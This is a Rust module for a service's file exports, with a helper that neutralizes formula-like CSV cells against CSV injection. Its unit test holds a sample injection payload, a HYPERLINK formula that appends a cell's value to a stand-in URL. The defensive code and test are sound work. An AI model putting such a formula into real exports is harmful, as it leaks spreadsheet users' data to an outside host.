//! What the file endpoints (reports, exports) share: the two formats, formula-safe text
//! cells and the attachment answer.
use std::borrow::Cow;

use axum::{
    http::{HeaderValue, StatusCode, header},
    response::{IntoResponse, Response},
};

use crate::service::ServiceError;

/// The file formats: an Excel workbook, or CSV in UTF-8 with a byte-order mark.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FileFormat {
    Xlsx,
    Csv,
}

impl FileFormat {
    /// The format named by a file extension, `xlsx` or `csv`.
    pub fn from_extension(extension: &str) -> Result<Self, ServiceError> {
        match extension {
            "xlsx" => Ok(Self::Xlsx),
            "csv" => Ok(Self::Csv),
            other => Err(ServiceError::bad_input(format!(
                "unknown format `{other}`: use xlsx or csv"
            ))),
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Self::Xlsx => "xlsx",
            Self::Csv => "csv",
        }
    }

    fn content_type(self) -> &'static str {
        match self {
            Self::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            Self::Csv => "text/csv; charset=utf-8",
        }
    }
}

/// What a CSV file starts with, so that spreadsheet programs read it as UTF-8 and show
/// the diacritics.
pub const BOM: &str = "\u{feff}";

/// A file to download, named `{name}.{extension}` (`name` in ASCII).
pub fn attachment(format: FileFormat, name: &str, body: Vec<u8>) -> Response {
    let disposition = format!("attachment; filename=\"{name}.{}\"", format.extension());
    (
        StatusCode::OK,
        [
            (
                header::CONTENT_TYPE,
                HeaderValue::from_static(format.content_type()),
            ),
            (
                header::CONTENT_DISPOSITION,
                HeaderValue::from_str(&disposition).expect("ASCII file name"),
            ),
        ],
        body,
    )
        .into_response()
}

/// A text cell as the spreadsheet gets it: text that a spreadsheet program would take
/// for a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a
/// leading `'`, as OWASP recommends against CSV injection, so that a district's
/// `=HYPERLINK(…)` shows as text in the coordinator's report.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_reads_as_a_formula_is_neutralized() {
        for formula in [
            "=HYPERLINK(\"http://x\"&A1,\"y\")",
            "+1+1",
            "-2+3",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(text_cell(formula), format!("'{formula}"));
        }
        for text in ["Đã tổ chức 3 hội nghị", "1+1", "", "a=b", "'quoted"] {
            assert_eq!(text_cell(text), text);
        }
    }
}
